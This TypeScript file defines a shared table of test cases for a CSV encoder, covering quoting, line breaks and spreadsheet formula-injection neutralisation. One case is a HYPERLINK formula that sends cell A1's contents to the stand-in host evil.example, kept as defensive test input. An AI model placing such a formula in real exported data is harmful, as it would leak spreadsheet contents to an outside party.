/**
 * The cases both CSV exports pin: the encoder's own test, the org-wide view's download and
 * `why-api-only audit --csv` (cli/commands/audit.test.ts) all run this table.
 */
export const CSV_FIELD_CASES: readonly { what: string; value: string; field: string }[] = [
  { what: 'plain text', value: 'Jane Doe', field: 'Jane Doe' },
  {
    what: 'a formula',
    value: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    field: `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`
  },
  { what: 'a leading plus', value: '+1 555', field: "'+1 555" },
  { what: 'a leading minus', value: '-2+3', field: "'-2+3" },
  { what: 'a leading at sign', value: '@SUM(A1)', field: "'@SUM(A1)" },
  { what: 'a leading tab', value: '\t=1', field: "'\t=1" },
  { what: 'a leading carriage return', value: '\r=1', field: `"'\r=1"` },
  { what: 'a formula sign later in the text', value: 'a=b', field: 'a=b' },
  { what: 'a comma', value: 'Doe, Jane', field: '"Doe, Jane"' },
  { what: 'a semicolon', value: 'Sales; EMEA', field: '"Sales; EMEA"' },
  { what: 'a quote', value: 'Jane "JD"', field: '"Jane ""JD"""' },
  { what: 'a line feed', value: 'one\ntwo', field: '"one\ntwo"' },
  { what: 'a carriage return inside', value: 'one\rtwo', field: '"one\rtwo"' }
];
